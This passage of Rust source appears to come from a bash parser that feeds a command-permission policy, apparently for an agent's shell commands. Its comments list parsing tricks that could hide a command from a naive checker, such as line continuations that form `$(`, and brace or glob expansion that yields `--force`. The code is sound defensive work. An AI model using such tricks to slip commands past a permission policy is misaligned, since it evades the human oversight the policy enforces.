    let mut out = Vec::new();
    let mut problem = None;
    if let Some(at) = command.bytes().position(|b| (b < 0x20 && b != b'\t' && b != b'\n') || b == 0x7f) {
        problem = Some(NotUnderstood { reason: Unmodelled::ControlCharacter, at });
    }
    let joined = join_continuations(command.as_bytes());
    let mut flow = Flow { dirs: WorkingDirs::start(), steered: None, moved: false, integers: Vec::new() };
    let mut p = Parser {
        src: &joined.text,
        origin: &joined.origin,
        base: 0,
        pos: 0,
        depth: 0,
        record: true,
        out: &mut out,
        problem: &mut problem,
        flow: &mut flow,
    };
    p.parse_list(false);
    match problem {
        None => Recognition::Understood(out),
        Some(why) => Recognition::NotUnderstood { why, seen: out },
    }
}

/// A command with its line continuations removed, and where each byte came from.
struct Joined {
    text: Vec<u8>,
    /// `origin[i]` is the offset in the command of `text[i]`; one more entry (the
    /// command's length) stands for the end.
    origin: Vec<usize>,
}

/// Where [`join_continuations`] is, lexically.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Lexical {
    /// Unquoted shell text: the command line, a subshell, `$(...)`, `<(...)`, `>(...)`.
    /// `in_word`: the frame was opened inside a word (`$(`, `<(`, `>(`), so its `)` does
    /// not end the word.
    Shell { in_word: bool },
    /// `"..."` (and `$"..."`).
    Double,
    /// `'...'`: nothing is special but the closing quote.
    Single,
    /// `$'...'`: a backslash escapes the next byte.
    AnsiC,
    /// `` `...` ``: bash finds the closing backtick without looking at quotes.
    Backtick,
    /// `#` at the start of a word, up to the newline.
    Comment,
}

/// Remove every backslash-newline pair (a line continuation) where bash removes it:
/// everywhere except inside single quotes, `$'...'` and comments. Bash drops these pairs
/// while it reads its input, before it tokenizes (`shell_getc`), so `$\<nl>(` is `$(`,
/// `$\<nl>'` is `$'`, `<\<nl>(` is `<(` and `&\<nl>>` is `&>`: the parser must see the
/// joined text, or a `$` it reads as literal runs a command substitution.
///
/// A backslash escapes the byte after it, so pairs are taken two bytes at a time (`\\`
/// then a newline is an escaped backslash and a real newline). The lexical context is
/// tracked only as far as it decides where pairs stay: quotes, `$'`, backticks,
/// comments and the parentheses that open new shell text (`$(`, `(`, `<(`, `>(`). In
/// constructs the parser does not model (here-documents, `case`) it may be off; such a
/// command is never allowed by the policy.
fn join_continuations(src: &[u8]) -> Joined {
    let mut text = Vec::with_capacity(src.len());
    let mut origin = Vec::with_capacity(src.len() + 1);
    let mut stack = vec![Lexical::Shell { in_word: false }];
    // In the innermost shell frame: the next byte starts a word (a `#` there is a comment).
    let mut word_start = true;
    // The last byte kept is an unescaped `$` that can start an expansion (`$(`, `$'`).
    let mut dollar = false;
    // The last byte kept is an unescaped `<` or `>` (`<(` and `>(` run commands).
    let mut angle = false;
    let mut i = 0;
    while i < src.len() {
        let c = src[i];
        let frame = *stack.last().unwrap_or(&Lexical::Shell { in_word: false });
        match frame {
            Lexical::Single | Lexical::AnsiC | Lexical::Comment => {
                if frame == Lexical::Comment && c == b'\n' {
                    stack.pop();
                    word_start = true;
                    continue; // the newline is read in the enclosing frame
                }
                text.push(c);
                origin.push(i);
                i += 1;
                if frame == Lexical::AnsiC && c == b'\\' && i < src.len() {
                    text.push(src[i]);
                    origin.push(i);
                    i += 1;
                } else if frame != Lexical::Comment && c == b'\'' {
                    stack.pop();
                }
                continue;
            }
            Lexical::Shell { .. } | Lexical::Double | Lexical::Backtick => {}
        }
        if c == b'\\' {
            match src.get(i + 1) {
                Some(b'\n') => {} // a line continuation: dropped, nothing else changes
                Some(&n) => {
                    text.extend_from_slice(&[c, n]);
                    origin.extend_from_slice(&[i, i + 1]);
                    (dollar, angle, word_start) = (false, false, false);
                }
                None => {
                    text.push(c);
                    origin.push(i);
                }
            }
            i += 2;
            continue;
        }
        text.push(c);
        origin.push(i);
        i += 1;
        let (was_dollar, was_angle) = (dollar, angle);
        (dollar, angle) = (false, false);
        match frame {
            Lexical::Shell { .. } => {
                let mut next_word_start = matches!(c, b' ' | b'\t' | b'\n' | b';' | b'&' | b'|' | b'<' | b'>');
                match c {
                    b'\'' => stack.push(if was_dollar { Lexical::AnsiC } else { Lexical::Single }),
                    b'"' => stack.push(Lexical::Double),
                    b'`' => stack.push(Lexical::Backtick),
                    b'#' if word_start => stack.push(Lexical::Comment),
                    b'(' => {
                        stack.push(Lexical::Shell { in_word: was_dollar || was_angle });
                        next_word_start = true;
                    }
                    b')' if stack.len() > 1 => {
                        let closed = stack.pop();
                        next_word_start = closed != Some(Lexical::Shell { in_word: true });
                    }
                    b')' => next_word_start = true,
                    b'$' => dollar = !was_dollar,
                    b'<' | b'>' => angle = true,
                    _ => {}
                }
                word_start = next_word_start;
            }
            Lexical::Double => match c {
                b'"' => {
                    stack.pop();
                    word_start = false;
                }
                b'`' => stack.push(Lexical::Backtick),
                b'(' if was_dollar => {
                    stack.push(Lexical::Shell { in_word: true });
                    word_start = true;
                }
                b'$' => dollar = !was_dollar,
                _ => {}
            },
            Lexical::Backtick => {
                if c == b'`' {
                    stack.pop();
                    word_start = false;
                }
            }
            Lexical::Single | Lexical::AnsiC | Lexical::Comment => {}
        }
    }
    origin.push(src.len());
    Joined { text, origin }
}

#[derive(Default)]
struct Word {
    text: Vec<u8>,
    /// Contains an expansion.
    dynamic: bool,
    /// Contains an expansion outside double quotes: bash splits it into any number of
    /// words (and globs them).
    split: bool,
    /// Byte length of `text` when the first expansion was appended.
    dynamic_from: Option<usize>,
    /// Contains any quoting or escaping.
    quoted: bool,
    /// Contains `$'...'` or `$"..."`.
    ansi_c: bool,
    /// Contains an unquoted glob, brace or tilde character.
    pattern: bool,
    /// Offsets in `text` of unquoted `*`, `?`, `[`, `{` and of a `~` where tilde
    /// expansion happens: where brace, tilde or pathname expansion may begin
    /// ([`Word::expands_from`]).
    expansion_points: Vec<usize>,
    /// An unquoted `NAME=` / `NAME+=` prefix: an assignment word.
    assignment: bool,
    /// A redirection operator or its target.
    redirect: bool,
    /// Offset of the word's first byte.
    start: usize,
}

impl Word {
    /// What bash makes of the word is known only at run time (an expansion, an undecoded
    /// `$'...'`, a glob, brace or tilde).
    fn computed(&self) -> bool {
        self.ansi_c || self.expands_from().is_some()
    }

    fn mark_dynamic(&mut self) {
        self.dynamic = true;
        self.dynamic_from.get_or_insert(self.text.len());
    }

    /// Where the words bash makes of this one stop being known from the text: the first
    /// expansion ([`Word::dynamic_from`]), or the first brace, tilde or pathname
    /// expansion point. Brace expansion makes several words of one (`{--force,origin}`
    /// is `--force origin`), a glob becomes whatever file names exist (`--forc?`), a
    /// tilde a home directory. A point counts when the rest of the word can complete it
    /// (a `]` after `[`; a `}` and a `,` or `..` after `{`), counting quoted text too, so
    /// the answer errs towards "computed" (`find -exec ... {} ;` and a lone `[` stay
    /// literal, as in bash).
    fn expands_from(&self) -> Option<usize> {
        let point = self.expansion_points.iter().copied().find(|&at| {
            let rest = self.text.get(at + 1..).unwrap_or_default();
            match self.text.get(at) {
                Some(b'[') => rest.contains(&b']'),
                Some(b'{') => rest.contains(&b'}') && (rest.contains(&b',') || rest.windows(2).any(|p| p == b"..")),
                _ => true,
            }
        });
        match (self.dynamic_from, point) {
            (Some(a), Some(b)) => Some(a.min(b)),
            (a, b) => a.or(b),
        }
    }
}

#[derive(Default)]
struct CommandBuilder {
    words: Vec<Word>,
    cur: Option<Word>,
    pending_redirect: Option<(String, usize)>,
    writes_file: bool,
    /// Files named by redirections.
    files: Vec<FileArg>,
    /// A redirection came before any word, one that is dropped from the words (`<&0`,
    /// `>/dev/null`) included: bash then reads no reserved word (`<&0 {` runs a command
    /// named `{`, `>/dev/null time x` runs the program `time`).
    redirect_first: bool,
    /// The command follows `|` / `|&`: `time` and `!` are reserved only at
    /// the start of a pipeline, so here they are ordinary command words.
    after_pipe: bool,
}

struct Parser<'a> {
    /// The command with its line continuations removed ([`join_continuations`]), or a
    /// backtick body taken from it.
    src: &'a [u8],
    /// [`Joined::origin`] of the whole command: maps offsets back for [`NotUnderstood::at`].
    origin: &'a [usize],
    /// Offset of `src` in the whole command (backtick bodies are parsed from
    /// a copy).
    base: usize,
    pos: usize,
    depth: usize,
    /// Whether simple commands at this level are collected (false inside
    /// arithmetic, where only nested substitutions execute).
    record: bool,
    out: &'a mut Vec<SimpleCommand>,
    problem: &'a mut Option<NotUnderstood>,
    flow: &'a mut Flow,
}

/// What earlier commands of the line changed that later ones depend on (one per line,
/// shared by nested parsers; in source order, which over-approximates: a change inside a
/// subshell counts for everything after it).
struct Flow {
    /// Where commands may run ([`WorkingDirs`]).
    dirs: WorkingDirs,
    /// A [`STEERING_VARIABLES`] name an earlier command changed.
    steered: Option<&'static str>,
    /// A `cd`, `pushd` or `popd` came before.
    moved: bool,
    /// Names an earlier `declare -i` (`local -i`, ...) of the line gave the integer
    /// attribute: bash evaluates what is assigned to them, as for [`EVALUATED_VARIABLES`].
    integers: Vec<Vec<u8>>,
}

/// The [`STEERING_VARIABLES`] or [`STEERING_PREFIXES`] entry `name` falls under.
fn steering(name: &[u8]) -> Option<&'static str> {
    STEERING_VARIABLES
        .iter()
        .chain(STEERING_PREFIXES)
        .find(|v| if STEERING_PREFIXES.contains(v) { name.starts_with(v.as_bytes()) } else { name == v.as_bytes() })
        .copied()
}

/// What [`Unmodelled::EvaluatedAssignment`] names for a variable `declare -i` (or `local
/// -i`, ...) made an integer earlier in the line.
const INTEGER_DECLARED: &str = "declare -i";

/// The [`EVALUATED_VARIABLES`] entry `name` is.
fn evaluated(name: &[u8]) -> Option<&'static str> {
    EVALUATED_VARIABLES.iter().find(|v| v.as_bytes() == name).copied()
}

/// The name and value of an assignment-like word (`NAME=value`, `NAME+=value`, `NAME`).
fn split_assignment(w: &Word) -> (&[u8], Option<&[u8]>) {
    let t = w.text.as_slice();
    match t.iter().position(|&c| c == b'=') {
        Some(eq) => (t[..eq].strip_suffix(b"+").unwrap_or(&t[..eq]), Some(&t[eq + 1..])),
        None => (t, None),
    }
}

fn is_name_start(c: u8) -> bool {
    c.is_ascii_alphabetic() || c == b'_'
}

fn is_name_char(c: u8) -> bool {
    c.is_ascii_alphanumeric() || c == b'_'
}

fn is_name(s: &[u8]) -> bool {
    matches!(s.first(), Some(&c) if is_name_start(c)) && s.iter().all(|&c| is_name_char(c))
}

/// Bytes that end an unquoted word.
fn is_delimiter(c: u8) -> bool {
    matches!(c, b' ' | b'\t' | b'\n' | b';' | b'&' | b'|' | b'(' | b')' | b'<' | b'>')
}

impl Parser<'_> {
    fn fail_at(&mut self, reason: Unmodelled, at: usize) {
        if self.problem.is_none() {
            let joined_at = self.base + at;
            let at = self.origin.get(joined_at).or(self.origin.last()).copied().unwrap_or(joined_at);
            *self.problem = Some(NotUnderstood { reason, at });
        }
    }

    fn fail(&mut self, reason: Unmodelled) {
        let at = self.pos.min(self.src.len());
        self.fail_at(reason, at);
    }

    fn peek(&self) -> Option<u8> {
        self.src.get(self.pos).copied()
    }

    fn peek_at(&self, off: usize) -> Option<u8> {
        self.src.get(self.pos + off).copied()
    }

    fn word<'b>(&self, b: &'b mut CommandBuilder) -> &'b mut Word {
        let start = self.pos;
        b.cur.get_or_insert_with(|| Word { start, ..Word::default() })
    }

    /// Push one unquoted literal byte, tracking assignments and patterns.
    fn push_unquoted(&mut self, b: &mut CommandBuilder, c: u8) {
        let w = self.word(b);
        if c == b'='
            && !w.assignment
            && !w.quoted
            && !w.dynamic
            && (is_name(&w.text) || w.text.strip_suffix(b"+").is_some_and(is_name))
        {
            w.assignment = true;
        }
        if matches!(c, b'*' | b'?' | b'[' | b'{' | b'}' | b'~') {
            w.pattern = true;
        }
        // Tilde expansion happens at the start of a word and after the `=` or `:` of an
        // assignment-like word (`a=~/x`, `PATH=x:~/bin`).
        let tilde = c == b'~' && (w.text.is_empty() || matches!(w.text.last(), Some(b'=' | b':')));
        if matches!(c, b'*' | b'?' | b'[' | b'{') || tilde {
            w.expansion_points.push(w.text.len());
        }
        w.text.push(c);
    }

    /// Parse a command list until end of input, or (when `nested`) until the
    /// matching `)`, which is consumed.
    fn parse_list(&mut self, nested: bool) {
        let mut b = CommandBuilder::default();
        while let Some(c) = self.peek() {
            match c {
                b' ' | b'\t' => {
                    self.pos += 1;
                    self.end_word(&mut b);
                }
                b'\n' | b';' | b'|' => {
                    if c == b';' && matches!(self.peek_at(1), Some(b';' | b'&')) {
                        self.fail(Unmodelled::CaseTerminator);
                    }
                    self.pos += 1;
                    let mut pipe = c == b'|';
                    if c != b'\n' && matches!(self.peek(), Some(n) if n == c || n == b'&') {
                        pipe = pipe && self.peek() == Some(b'&');
                        self.pos += 1; // `;;`, `||`, `|&`, `;&`
                    }
                    self.end_command(&mut b);
                    b.after_pipe = pipe;
                }
                b'&' => {
                    if self.peek_at(1) == Some(b'>') {
                        // `&>file` / `&>>file`: redirect stdout and stderr.
                        self.end_word(&mut b);
                        let at = self.pos;
                        self.pos += 2;
                        let mut op = String::from("&>");
                        if self.peek() == Some(b'>') {
                            self.pos += 1;
                            op.push('>');
                        }
                        self.set_redirect(&mut b, op, at);
                    } else {
                        self.pos += 1;
                        if self.peek() == Some(b'&') {
                            self.pos += 1;
                        }
                        self.end_command(&mut b);
                    }
                }
                b'(' => {
                    self.end_word(&mut b);
                    if !b.words.iter().all(is_leading_reserved) {
                        let reason = match b.words.last() {
                            Some(w) if w.assignment && w.text.ends_with(b"=") => Unmodelled::ArrayAssignment,
                            _ if b.words.len() == 1 => Unmodelled::FunctionDefinition,
                            _ => Unmodelled::UnbalancedParenthesis,
                        };
                        self.fail(reason);
                    }
                    if self.peek_at(1) == Some(b'(') {
                        self.fail(Unmodelled::Arithmetic);
                    }
                    self.pos += 1;
                    self.end_command(&mut b);
                    self.nested(|p| p.parse_list(true));
                }
                b')' => {
                    self.pos += 1;
                    self.end_command(&mut b);
                    if nested {
                        return;
                    }
                    self.fail_at(Unmodelled::UnbalancedParenthesis, self.pos - 1);
                }
                b'\'' => {
                    self.pos += 1;
                    self.word(&mut b).quoted = true;
                    self.single_quoted(&mut b);
                }
                b'"' => {
                    self.pos += 1;
                    self.word(&mut b).quoted = true;
                    self.double_quoted(&mut b);
                }
                b'\\' => {
                    self.pos += 1;
                    match self.peek() {
                        Some(b'\n') => self.pos += 1, // line continuation
                        Some(n) => {
                            self.pos += 1;
                            let w = self.word(&mut b);
                            w.quoted = true;
                            w.text.push(n);
                        }
                        None => self.word(&mut b).text.push(b'\\'),
                    }
                }
                b'$' => self.dollar(&mut b, false),
                b'`' => {
                    self.pos += 1;
                    self.backtick(&mut b, false);
                }
                b'<' | b'>' => self.redirect(&mut b),
                b'#' if b.cur.is_none() => {
                    // Comment: up to (not including) the newline.
                    let start = self.pos;
                    while let Some(n) = self.peek() {
                        if n == b'\n' {
                            break;
                        }
                        self.pos += 1;
                    }
                    if self.pos > start + 1 && self.src.get(self.pos - 1) == Some(&b'\\') {
                        self.fail_at(Unmodelled::CommentContinuation, self.pos - 1);
                    }
                }
                _ => {
                    self.pos += 1;
                    self.push_unquoted(&mut b, c);
                }
            }
        }
        self.end_command(&mut b);
        if nested {
            self.fail(Unmodelled::Unterminated);
        }
    }

    /// Run `f` one nesting level deeper (recording commands), or give up.
    fn nested(&mut self, f: impl FnOnce(&mut Self)) {
        self.nested_with(true, f);
    }

    fn nested_with(&mut self, record: bool, f: impl FnOnce(&mut Self)) {
        if self.depth >= MAX_NESTING {
            self.fail(Unmodelled::TooDeep);
            self.pos = self.src.len();
            return;
        }
        let saved = self.record;
        self.depth += 1;
        self.record = record;
        f(self);
        self.depth -= 1;
        self.record = saved;
    }

    fn single_quoted(&mut self, b: &mut CommandBuilder) {
        loop {
            match self.peek() {
                None => return self.fail(Unmodelled::Unterminated),
                Some(b'\'') => {
                    self.pos += 1;
                    return;
                }
                Some(c) => {
                    self.pos += 1;
                    self.word(b).text.push(c);
                }
            }
        }
    }

    fn double_quoted(&mut self, b: &mut CommandBuilder) {
        loop {
            match self.peek() {
                None => return self.fail(Unmodelled::Unterminated),
                Some(b'"') => {
                    self.pos += 1;
                    return;
                }
                Some(b'\\') => {
                    self.pos += 1;
                    match self.peek() {
                        Some(b'\n') => self.pos += 1,
                        Some(n @ (b'$' | b'`' | b'"' | b'\\')) => {
                            self.pos += 1;
                            self.word(b).text.push(n);
                        }
                        _ => self.word(b).text.push(b'\\'),
                    }
                }
                Some(b'$') => self.dollar(b, true),
                Some(b'`') => {
                    self.pos += 1;
                    self.backtick(b, true);
                }
                Some(c) => {
                    self.pos += 1;
                    self.word(b).text.push(c);
                }
            }
        }
    }

    /// At a `$`: substitution, arithmetic, ANSI-C quote, or a parameter.
    fn dollar(&mut self, b: &mut CommandBuilder, in_double_quotes: bool) {
        self.dollar_inner(b, in_double_quotes);
        if !in_double_quotes
            && let Some(w) = b.cur.as_mut()
            && w.dynamic
        {
            w.split = true;
        }
    }

    fn dollar_inner(&mut self, b: &mut CommandBuilder, in_double_quotes: bool) {
        let at = self.pos;
        self.pos += 1;
        match self.peek() {
            Some(b'(') if self.peek_at(1) == Some(b'(') => {
                self.pos += 2;
                if !self.literal_arithmetic() {
                    // Best effort: only nested substitutions run.
                    self.fail_at(Unmodelled::Arithmetic, at);
                    self.nested_with(false, |p| {
                        p.parse_list(true);
                        if p.peek() == Some(b')') {
                            p.pos += 1;
                        } else {
                            p.fail(Unmodelled::Unterminated);
                        }
                    });
                }
                let w = self.word(b);
                w.text.extend_from_slice(b"$((...))");
                w.mark_dynamic();
            }
            Some(b'(') => {
                self.pos += 1;
                self.nested(|p| p.parse_list(true));
                let w = self.word(b);
                w.text.extend_from_slice(b"$(...)");
                w.mark_dynamic();
            }
            Some(b'[') => {
                // Obsolete arithmetic `$[...]`; best effort: the rest is read
                // as ordinary text.
                self.fail_at(Unmodelled::Arithmetic, at);
                self.word(b).text.push(b'$');
            }
            Some(b'{') => self.braced_parameter(b, at),
            Some(b'\'') if !in_double_quotes => {
                // ANSI-C quoting: escapes are not decoded, so the word's real
                // value is unknown.
                self.pos += 1;
                let w = self.word(b);
                w.mark_dynamic();
                w.ansi_c = true;
                w.quoted = true;
                loop {
                    match self.peek() {
                        None => return self.fail(Unmodelled::Unterminated),
                        Some(b'\\') => {
                            self.pos += 1;
                            self.word(b).text.push(b'\\');
                            if let Some(n) = self.peek() {
                                self.pos += 1;
                                self.word(b).text.push(n);
                            }
                        }
                        Some(b'\'') => {
                            self.pos += 1;
                            return;
                        }
                        Some(c) => {
                            self.pos += 1;
                            self.word(b).text.push(c);
                        }
                    }
                }
            }
            Some(b'"') if !in_double_quotes => {
                // Locale translation `$"..."`; best effort: a double-quoted
                // string.
                self.fail_at(Unmodelled::LocaleString, at);
                self.pos += 1;
                let w = self.word(b);
                w.quoted = true;
                w.ansi_c = true;
                self.double_quoted(b);
            }
            Some(c) if is_name_start(c) => {
                let start = self.pos;
                while matches!(self.peek(), Some(n) if is_name_char(n)) {
                    self.pos += 1;
                }
                let name = self.src[start..self.pos].to_vec();
                let w = self.word(b);
                w.mark_dynamic();
                w.text.push(b'$');
                w.text.extend_from_slice(&name);
            }
            Some(c) if c.is_ascii_digit() || SPECIAL_PARAMS.contains(&c) => {
                self.pos += 1;
                let w = self.word(b);
                w.mark_dynamic();
                w.text.extend_from_slice(&[b'$', c]);
            }
            _ => {
                // A lone `$` is literal.
                self.word(b).text.push(b'$');
            }
        }
    }

    /// After `$((`: consume a literal arithmetic body and its `))`. Returns
    /// false (consuming nothing) when the body is not purely literal.
    fn literal_arithmetic(&mut self) -> bool {
        let mut depth = 0usize;
        let mut i = self.pos;
        while let Some(&c) = self.src.get(i) {
            match c {
                b'(' => depth += 1,
                b')' if depth == 0 => {
                    if self.src.get(i + 1) == Some(&b')') {
                        self.pos = i + 2;
                        return true;
                    }
                    return false;
                }
                b')' => depth -= 1,
                b'0'..=b'9'
                | b' '
                | b'\t'
                | b'+'
                | b'-'
                | b'*'
                | b'/'
                | b'%'
                | b'<'
                | b'>'
                | b'='
                | b'!'
                | b'&'
                | b'|'
                | b'^'
                | b'~'
                | b'?'
                | b':'
                | b',' => {}
                _ => return false,
            }
            i += 1;
        }
        false
    }

    /// At `${`: only `${name}`, `${N}` and `${special}` are modelled.
    fn braced_parameter(&mut self, b: &mut CommandBuilder, at: usize) {
        let start = self.pos + 1;
        let mut end = start;
        while matches!(self.src.get(end), Some(&c) if is_name_char(c)) {
            end += 1;
        }
        let body = &self.src[start..end];
        let plain_name = is_name(body) || (!body.is_empty() && body.iter().all(u8::is_ascii_digit));
        if plain_name && self.src.get(end) == Some(&b'}') {
            let text = [b"$".as_slice(), body].concat();
            self.pos = end + 1;
            let w = self.word(b);
            w.mark_dynamic();
            w.text.extend_from_slice(&text);
            return;
        }
        if end == start
            && matches!(self.src.get(start), Some(c) if SPECIAL_PARAMS.contains(c))
            && self.src.get(start + 1) == Some(&b'}')
        {
            let c = self.src[start];
            self.pos = start + 2;
            let w = self.word(b);
            w.mark_dynamic();
            w.text.extend_from_slice(&[b'$', c]);
            return;
        }
        // `${#name}` (its length) and `${name<op>word}` with a literal word: the value of a
        // plain name, a default, an alternative, an error message or a trimmed pattern;
        // nothing is assigned or evaluated.
        let n = self.src.get(start + 1..).unwrap_or_default().iter().take_while(|&&c| is_name_char(c)).count();
        let length = body.is_empty()
            && self.src.get(start) == Some(&b'#')
            && is_name(&self.src[start + 1..start + 1 + n])
            && self.src.get(start + 1 + n) == Some(&b'}');
        if length {
            let text = [b"${#".as_slice(), &self.src[start + 1..start + 1 + n], b"}"].concat();
            self.pos = start + n + 2;
            let w = self.word(b);
            w.mark_dynamic();
            w.text.extend_from_slice(&text);
            return;
        }
        if is_name(body)
            && let Some(op_len) =
                PARAMETER_OPERATORS.iter().find(|op| self.src[end..].starts_with(op.as_bytes())).map(|op| op.len())
        {
            let word_start = end + op_len;
            let word_len = self.src[word_start..].iter().take_while(|&&c| is_parameter_word_byte(c)).count();
            if self.src.get(word_start + word_len) == Some(&b'}') {
                let text = [b"${".as_slice(), &self.src[start..word_start + word_len], b"}"].concat();
                self.pos = word_start + word_len + 1;
                let w = self.word(b);
                w.mark_dynamic();
                w.text.extend_from_slice(&text);
                return;
            }
        }
        // Anything else: best effort, the `${` and what follows are read as
        // ordinary text (substitutions inside are still found).
        self.fail_at(Unmodelled::ParameterOperator, at);
        let w = self.word(b);
        w.mark_dynamic();
        w.text.push(b'$');
    }

    /// After an opening backtick: collect up to the closing one (unescaping
    /// `` \` ``, `\\` and `\$` on a best-effort basis), then recognize the
    /// contents as a nested command line.
    fn backtick(&mut self, b: &mut CommandBuilder, in_double_quotes: bool) {
        let open = self.pos - 1;
        let mut inner = Vec::new();
        loop {
            match self.peek() {
                None => {
                    self.fail(Unmodelled::Unterminated);
                    break;
                }
                Some(b'`') => {
                    self.pos += 1;
                    break;
                }
                Some(b'\\') => {
                    self.fail(Unmodelled::BacktickEscape);
                    self.pos += 1;
                    match self.peek() {
                        Some(n @ (b'`' | b'\\' | b'$')) => {
                            self.pos += 1;
                            inner.push(n);
                        }
                        _ => inner.push(b'\\'),
                    }
                }
                Some(c) => {
                    if c == b'"' && in_double_quotes {
                        self.fail(Unmodelled::BacktickEscape);
                    }
                    self.pos += 1;
                    inner.push(c);
                }
            }
        }
        if self.depth >= MAX_NESTING {
            self.fail(Unmodelled::TooDeep);
        } else {
            let mut sub = Parser {
                src: &inner,
                origin: self.origin,
                base: self.base + open + 1,
                pos: 0,
                depth: self.depth + 1,
                record: true,
                out: &mut *self.out,
                problem: &mut *self.problem,
                flow: &mut *self.flow,
            };
            sub.parse_list(false);
        }
        let w = self.word(b);
        w.text.extend_from_slice(b"$(...)");
        w.mark_dynamic();
        w.split |= !in_double_quotes;
    }

    /// At an unquoted `<` or `>`: a redirection or a process substitution.
    fn redirect(&mut self, b: &mut CommandBuilder) {
        let c = self.peek().unwrap_or(b'>');
        let at = self.pos;
        if self.peek_at(1) == Some(b'(') {
            // Process substitution `<(cmd)` / `>(cmd)`: runs `cmd`.
            self.pos += 2;
            self.nested(|p| p.parse_list(true));
            let w = self.word(b);
            w.text.push(c);
            w.text.extend_from_slice(b"(...)");
            w.mark_dynamic();
            return;
        }
        // A word of only unquoted digits right before the operator is its fd
        // number; `{name}` allocates a descriptor (not modelled).
        let mut op = String::new();
        if let Some(w) = &b.cur
            && !w.quoted
            && !w.dynamic
            && !w.text.is_empty()
        {
            if w.text.iter().all(u8::is_ascii_digit) {
                op.push_str(&String::from_utf8_lossy(&w.text));
                b.cur = None;
            } else if w.text.first() == Some(&b'{') && w.text.last() == Some(&b'}') {
                self.fail_at(Unmodelled::NamedFd, w.start);
            }
        }
        self.end_word(b);
        self.pos += 1;
        op.push(c as char);
        match (c, self.peek()) {
            (b'>', Some(b'>' | b'|')) | (b'<', Some(b'>')) => {
                op.push(self.peek().unwrap_or(b'>') as char);
                self.pos += 1;
            }
            (b'<', Some(b'<')) => {
                op.push('<');
                self.pos += 1;
                if self.peek() == Some(b'<') {
                    op.push('<'); // here-string `<<<word`
                    self.pos += 1;
                } else {
                    // Here-document: the body follows on later lines; best
                    // effort reads it as commands (splitting too much).
                    self.fail_at(Unmodelled::Heredoc, at);
                    if self.peek() == Some(b'-') {
                        op.push('-');
                        self.pos += 1;
                    }
                }
            }
            _ => {}
        }
        let bare = op.trim_start_matches(|c: char| c.is_ascii_digit());
        if self.peek() == Some(b'&') && matches!(bare, ">" | "<" | ">>" | "<>" | "<<<") {
            // fd duplication / closing: `2>&1`, `>&2`, `<&0`, `>&-`.
            let start = self.pos + 1;
            let mut end = start;
            while matches!(self.src.get(end), Some(d) if d.is_ascii_digit()) {
                end += 1;
            }
            if end == start && self.src.get(end) == Some(&b'-') {
                end += 1;
            }
            let delimited = self.src.get(end).is_none_or(|&d| is_delimiter(d));
            if end > start && delimited && matches!(bare, ">" | "<") {
                self.pos = end;
                b.redirect_first |= b.words.is_empty();
                return; // harmless: dropped
            }
            self.fail_at(Unmodelled::FdDuplicationWord, at);
            op.push('&');
            self.pos += 1;
        }
        self.set_redirect(b, op, at);
    }

    fn set_redirect(&mut self, b: &mut CommandBuilder, op: String, at: usize) {
        if b.pending_redirect.is_some() {
            self.fail_at(Unmodelled::MissingRedirectTarget, at);
        }
        b.pending_redirect = Some((op, at));
    }

    fn end_word(&mut self, b: &mut CommandBuilder) {
        let Some(w) = b.cur.take() else { return };
        if let Some((op, _)) = b.pending_redirect.take() {
            let output = op.contains('>');
            let target = String::from_utf8_lossy(&w.text);
            if output && !w.dynamic && HARMLESS_OUTPUT_TARGETS.contains(&target.as_ref()) {
                b.redirect_first |= b.words.is_empty();
                return;
            }
            if output {
                b.writes_file = true;
            }
            if !op.contains("<<") {
                let access = match (op.contains('<'), output) {
                    (true, true) => Access::ReadWrite,
                    (false, _) => Access::Write,
                    (true, false) => Access::Read,
                };
                b.files.push(FileArg { path: target.into_owned(), access, computed: w.computed(), redirect: true });
            }
            b.words.push(Word { text: op.into_bytes(), start: w.start, redirect: true, ..Word::default() });
            b.words.push(Word { assignment: false, redirect: true, ..w });
            return;
        }
        b.words.push(w);
    }

    fn end_command(&mut self, b: &mut CommandBuilder) {
        self.end_word(b);
        if let Some((_, at)) = b.pending_redirect.take() {
            self.fail_at(Unmodelled::MissingRedirectTarget, at);
        }
        let mut b = std::mem::take(b);
        let mut start = 0;
        while start < b.words.len() && !b.redirect_first && is_leading_reserved(&b.words[start]) {
            if start == 0 && b.after_pipe && matches!(b.words[0].text.as_slice(), b"time" | b"!") {
                break;
            }
            if b.words[start].text == b"time" {
                // `time -p`, `time --`, `time -p --`: bash reads an unquoted `-p` and then an
                // unquoted `--` after `time` as part of the reserved word, never as the
                // command (`time -- rm x` runs `rm x`).
                for option in [b"-p".as_slice(), b"--"] {
                    if b.words.get(start + 1).is_some_and(|w| w.text == option && !w.quoted && !w.dynamic) {
                        start += 1;
                    }
                }
            }
            start += 1;
        }
        let words: Vec<Word> = b.words.drain(start..).collect();
        if words.is_empty() {
            return;
        }
        self.check_command(&words);
        if !self.record {
            return;
        }
        if self.out.len() >= MAX_PARTS {
            self.fail(Unmodelled::TooManyCommands);
            self.pos = self.src.len();
            return;
        }
        let dynamic_command = words.iter().find(|w| !w.assignment && !w.redirect).is_some_and(|w| w.dynamic);
        // Only words before the command word are assignments: `cp x a=~/y` runs `a=~/y`.
        let command_at = words.iter().position(|w| !w.assignment && !w.redirect).unwrap_or(words.len());
        let argv: Vec<&Word> = words
            .iter()
            .enumerate()
            .filter(|(i, w)| !w.redirect && (*i >= command_at || !w.assignment))
            .map(|(_, w)| w)
            .collect();
        let dynamic_at = dynamic_offset(&argv);
        let mut files = std::mem::take(&mut b.files);
        if let Some((program, args)) = argv.split_first()
            && !program.computed()
        {
            let texts: Vec<String> = args.iter().map(|w| String::from_utf8_lossy(&w.text).into_owned()).collect();
            let args: Vec<Arg<'_>> =
                args.iter().zip(&texts).map(|(w, text)| Arg { text, computed: w.computed() }).collect();
            let program = String::from_utf8_lossy(&program.text);
            let name = program.rsplit('/').next().unwrap_or_default();
            // A write operand that writes nothing anyone can read back (`tee /dev/null`) is
            // no file write, as the same redirection is none.
            files.extend(operands::operands(name, &args).into_iter().filter(|f| {
                f.computed || f.access != Access::Write || !HARMLESS_OUTPUT_TARGETS.contains(&f.path.as_str())
            }));
        }
        let argv = argv.iter().map(|w| String::from_utf8_lossy(&w.text).into_owned()).collect();
        let inert_prefix = words[..command_at]
            .iter()
            .filter(|w| w.assignment)
            .all(|w| std::str::from_utf8(split_assignment(w).0).is_ok_and(is_inert_variable));
        let rule_words = words
            .iter()
            .enumerate()
            .filter(|(i, w)| !(w.redirect || inert_prefix && *i < command_at && w.assignment))
            .map(|(_, w)| String::from_utf8_lossy(&w.text).into_owned())
            .collect();
        self.out.push(SimpleCommand {
            rule_words,
            argv,
